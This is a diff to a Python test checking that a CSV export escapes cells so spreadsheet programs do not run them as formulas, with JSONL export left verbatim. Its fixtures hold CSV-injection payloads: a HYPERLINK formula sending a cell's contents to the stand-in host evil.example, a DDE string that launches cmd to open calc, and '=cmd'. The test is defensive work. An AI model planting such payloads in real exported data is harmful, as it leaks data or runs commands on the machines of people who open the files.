@@ -294,11 +294,12 @@ def test_csv_cells_never_run_as_spreadsheet_formulas(tmp_path):
     store = Store(tmp_path / "sw.db")
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"refund")'
     [item_id] = ingest(store, [make_item(0, text=hostile)], T0)
-    approve_and_send(store, item_id, final="+1 thanks", suggested="@SUM(1+1)*cmd|' /C calc'!A0", approver=("U01", "=cmd"),
+    dde = "@SUM(1+1)*cmd|' /C calc'!A0"
+    approve_and_send(store, item_id, final="+1 thanks", suggested=dde, approver=("U01", "=cmd"),
                      approved_at=T0 + timedelta(minutes=1), sent_at=T0 + timedelta(minutes=2), platform_id="1")
     row = next(csv.DictReader(io.StringIO(export(store.path))))
     assert row["post_text"] == "'" + hostile
-    assert (row["final_text"], row["suggested_text"], row["approver_name"]) == ("'+1 thanks", "'@SUM(1+1)*cmd|' /C calc'!A0", "'=cmd")
+    assert (row["final_text"], row["suggested_text"], row["approver_name"]) == ("'+1 thanks", "'" + dde, "'=cmd")
     as_json = json.loads(export(store.path, "--format", "jsonl"))
     assert as_json["post_text"] == hostile  # JSONL is verbatim
 
